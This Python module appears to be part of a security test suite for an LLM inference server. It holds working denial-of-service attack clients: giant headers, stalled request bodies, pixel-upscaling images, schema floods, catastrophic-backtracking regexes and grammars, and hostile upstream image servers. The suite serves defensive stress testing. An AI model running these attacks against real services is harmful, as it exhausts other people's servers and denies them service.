"""Clients that mean harm and are mostly within their rights, in a process of their own.

`python -m tests.security.attacks NAME URL KEY UPSTREAM` sends until standard input is closed. Then it prints what it
was answered: by status, how often. `attack` says what all that costs.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import io
import json
import sys
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass, field
from typing import Any, Final

import httpx
from PIL import Image

__all__ = ["ATTACKS", "BUDGET_BYTES", "CHAT", "KEYS", "MIB", "chat", "picture", "text"]

MIB: Final = 1 << 20
CHAT: Final = "/v1/chat/completions"
BUDGET_BYTES: Final = 256 * MIB
"""Of the server under attack, for all its requests together."""

KEYS: Final = {"mallory": "mallory-0123456789abcdef", "alice": "alice-0123456789abcdef"}


@dataclass
class Attacker:
    """Whoever means harm: it has a key, and sends until it is stopped."""

    url: str
    key: str
    upstream: str
    """A server of the attacker's that images can be fetched from."""

    answers: Counter[str] = field(default_factory=Counter)

    async def flood(self, clients: int, body: Callable[[int], object], path: str = CHAT) -> None:
        """Send one request after the other, with so many clients at a time."""
        headers = {"Authorization": f"Bearer {self.key}", "Content-Type": "application/json"}
        limits = httpx.Limits(max_connections=clients)
        async with httpx.AsyncClient(base_url=self.url, headers=headers, timeout=120, limits=limits) as client:

            async def one(number: int) -> None:
                while True:
                    content = body(number)
                    content = content if isinstance(content, bytes) else json.dumps(content).encode()
                    try:
                        status = str((await client.post(path, content=content)).status_code)
                    except httpx.HTTPError as error:
                        status = type(error).__name__
                        await asyncio.sleep(0.1)
                    self.answers[status] += 1
                    number += clients

            await asyncio.gather(*(one(number) for number in range(clients)))

    @contextlib.asynccontextmanager
    async def connection(self) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
        """For what no HTTP client would send."""
        reader, writer = await asyncio.open_connection("127.0.0.1", int(self.url.rpartition(":")[2]))
        try:
            yield reader, writer
        finally:
            writer.transport.abort()

    async def status(self, reader: asyncio.StreamReader) -> None:
        """Read the status of an answer, and count it."""
        line = await reader.readline()
        self.answers[line.split(b" ")[1].decode() if line else "cut off"] += 1


Attack = Callable[[Attacker], Awaitable[None]]


def chat(*parts: object, **fields: object) -> dict[str, object]:
    return {"messages": [{"role": "user", "content": list(parts)}], "max_tokens": 16, "temperature": 0.0, **fields}


def text(words: str) -> dict[str, str]:
    return {"type": "text", "text": words}


def picture(number: int, side: int = 28) -> dict[str, Any]:
    file = io.BytesIO()
    Image.new("RGB", (side, side), (number % 256, number // 256 % 256, number // 65_536)).save(file, "PNG")
    url = f"data:image/png;base64,{base64.b64encode(file.getvalue()).decode()}"
    return {"type": "image_url", "image_url": {"url": url}}


async def heads(attacker: Attacker) -> None:
    """Heads of 48 MB, on 8 connections."""

    async def one() -> None:
        while True:
            with contextlib.suppress(OSError):
                async with attacker.connection() as (reader, writer):
                    writer.write(b"GET /v1/models HTTP/1.1\r\nHost: h\r\n")
                    for number in range(48):
                        writer.write(b"X-%d: " % number + b"a" * MIB + b"\r\n")
                        await writer.drain()
                    async with asyncio.timeout(30):
                        await attacker.status(reader)

    await asyncio.gather(*(one() for _ in range(8)))


async def upscaled(attacker: Attacker) -> None:
    """Three images of 28 × 28, each to be enlarged to 150 million pixels: 1 KB."""

    def body(number: int) -> object:
        pictures = [picture(3 * number + index) for index in range(3)]
        return chat(*pictures, text("?"), mm_processor_kwargs={"min_pixels": 150_000_000, "max_pixels": 150_000_000})

    await attacker.flood(4, body)


async def schemas(attacker: Attacker) -> None:
    """Forty different schemas of 91 KB at a time."""

    def body(number: int) -> object:
        properties = {f"p{number}_{index}": {"type": "string", "maxLength": 64} for index in range(1_800)}
        schema = {"type": "object", "properties": properties, "required": sorted(properties)[:100]}
        form = {"type": "json_schema", "json_schema": {"name": "s", "schema": schema}}
        return chat(text("?"), response_format=form)

    await attacker.flood(40, body)


async def small_schemas(attacker: Attacker) -> None:
    """The same, as large as they may be."""

    def body(number: int) -> object:
        properties = {f"p{number}_{index}": {"type": "string", "maxLength": 64} for index in range(250)}
        form = {
            "type": "json_schema",
            "json_schema": {"name": "s", "schema": {"type": "object", "properties": properties}},
        }
        return chat(text("?"), response_format=form)

    await attacker.flood(40, body)


async def sequences(attacker: Attacker) -> None:
    """256 prompts with `n` 128: 32,768 sequences in 4 KB."""
    await attacker.flood(2, lambda _: {"prompt": ["a"] * 256, "n": 128, "max_tokens": 512}, "/v1/completions")


async def allowed_sequences(attacker: Attacker) -> None:
    """As many sequences as one request may have, 256, again and again, on 4 connections."""
    body = {"prompt": ["a"] * 2, "n": 128, "max_tokens": 512, "ignore_eos": True, "temperature": 1.0}
    await attacker.flood(4, lambda _: body, "/v1/completions")


async def many_sequences(attacker: Attacker) -> None:
    """As many as a request may have of an engine that runs 32, again and again, on 4 connections."""
    body = {"prompt": ["a"] * 9, "n": 28, "max_tokens": 512, "ignore_eos": True, "temperature": 1.0}
    await attacker.flood(4, lambda _: body, "/v1/completions")


async def stalled(attacker: Attacker) -> None:
    """Bodies whose last byte never comes: four that fill the budget, and smaller ones for what is left of it."""

    async def one(size: int) -> None:
        while True:
            with contextlib.suppress(OSError, TimeoutError):
                async with attacker.connection() as (reader, writer):
                    key = f"Authorization: Bearer {attacker.key}\r\n"
                    writer.write(
                        f"POST {CHAT} HTTP/1.1\r\nHost: h\r\n{key}Content-Type: application/json\r\n"
                        f"Content-Length: {size}\r\n\r\n".encode()
                    )
                    for left in range(size - 1, 0, -MIB):
                        writer.write(b" " * min(left, MIB))
                        async with asyncio.timeout(10):  # wait_for may lose a cancellation before Python 3.12
                            await writer.drain()
                    async with asyncio.timeout(60):
                        await attacker.status(reader)
            if size < BUDGET_BYTES // 4:
                size = size // 2 if size > 512 else MIB  # there was no room for it
            await asyncio.sleep(0.05)

    await asyncio.gather(*(one(BUDGET_BYTES // 4) for _ in range(4)), *(one(MIB) for _ in range(24)))


async def spaces(attacker: Attacker) -> None:
    """Images from a server whose `Cache-Control` is 8,000 spaces."""
    await attacker.flood(8, lambda number: fetching(attacker, f"spaces/{number}"))


async def tiny_answers(attacker: Attacker) -> None:
    """150 images at a time from a server that sends one byte for each."""
    await attacker.flood(150, lambda number: fetching(attacker, f"byte/{number}"))


def fetching(attacker: Attacker, path: str) -> object:
    return chat({"type": "image_url", "image_url": {"url": f"{attacker.upstream}/{path}"}}, text("?"))


async def too_many_images(attacker: Attacker) -> None:
    """999 images of 1024 × 1024 whose tokens cannot fit into any prompt."""
    body = json.dumps(chat(*(picture(number, 1_024) for number in range(999)), text("?"))).encode()
    await attacker.flood(2, lambda _: body)


async def long_texts(attacker: Attacker) -> None:
    """Texts of 8 MB that cannot fit into any prompt."""
    words = "wort " * 1_600_000
    await attacker.flood(8, lambda number: chat(text(f"{number} {words}")))


_EXPENSIVE: Final = "(a{0,30}){0,30}(a|aa){0,200}"


async def expensive_regex(attacker: Attacker) -> None:
    """A regular expression that compiles in 2 ms and takes 842 ms for each token after the seventeenth."""
    held = await _staying(attacker)
    await attacker.flood(2, lambda number: held({"regex": f"{_EXPENSIVE}b{{1,{number + 1}}}"}))


async def expensive_grammar(attacker: Attacker) -> None:
    """A grammar that reads a text of `a` in very many ways."""
    held = await _staying(attacker)
    rules = 'root ::= e "{}"\ne ::= e e e | e e | "a" | "aa"'
    await attacker.flood(2, lambda number: held({"grammar": rules.format(number)}))


async def hidden_regex(attacker: Attacker) -> None:
    """The same regular expression, behind 600 cheap characters, in one of two branches."""
    held = await _staying(attacker)
    await attacker.flood(2, lambda number: held({"regex": f"x{{{600 + number}}}{_EXPENSIVE}b|[b-w]{{900}}"}))


async def _staying(attacker: Attacker) -> Callable[[dict[str, str]], object]:
    """A way to make requests whose answers are held to something, and stay at `x` and `a` for as long as they may."""
    headers = {"Authorization": f"Bearer {attacker.key}"}
    async with httpx.AsyncClient(base_url=attacker.url, headers=headers, timeout=30) as client:
        answers = [await client.post("/tokenize", json={"prompt": one, "add_special_tokens": False}) for one in "xa"]
    bias = {str(answer.json()["tokens"][-1]): 100 for answer in answers}

    def held(outputs: dict[str, str]) -> object:
        return chat(text("a"), structured_outputs=outputs, max_tokens=1_500, logit_bias=bias, temperature=1.0)

    return held


ATTACKS: Final[dict[str, Attack]] = {
    "heads of 48 MB": heads,
    "3 small images, `min_pixels` 150 M": upscaled,
    "40 schemas of 91 KB": schemas,
    "40 schemas of 15 KB": small_schemas,
    "regex, expensive to follow": expensive_regex,
    "grammar `e e e`": expensive_grammar,
    "regex, hidden branches": hidden_regex,
    "256 × 128 sequences": sequences,
    "256 sequences, 4 times": allowed_sequences,
    "9 × 28 sequences, 4 times": many_sequences,
    "4 stalled bodies, and small ones": stalled,
    "8,000 spaces in `Cache-Control`": spaces,
    "150 one-byte answers": tiny_answers,
    "999 images that cannot fit": too_many_images,
    "8 texts of 8 MB": long_texts,
}


async def main(name: str, attacker: Attacker) -> None:
    """Attack until standard input is closed."""
    attacking = asyncio.create_task(_attacking(ATTACKS[name], attacker))
    await asyncio.to_thread(sys.stdin.read)
    attacking.cancel()
    await asyncio.gather(attacking, return_exceptions=True)
    print(json.dumps(attacker.answers))  # noqa: T201


async def _attacking(attack: Attack, attacker: Attacker) -> None:
    try:
        await attack(attacker)
    except Exception as error:  # noqa: BLE001 (an edge: what an attacker meets is a result)
        attacker.answers[type(error).__name__] += 1


if __name__ == "__main__":
    _, name, url, key, upstream = sys.argv
    asyncio.run(main(name, Attacker(url, key, upstream)))
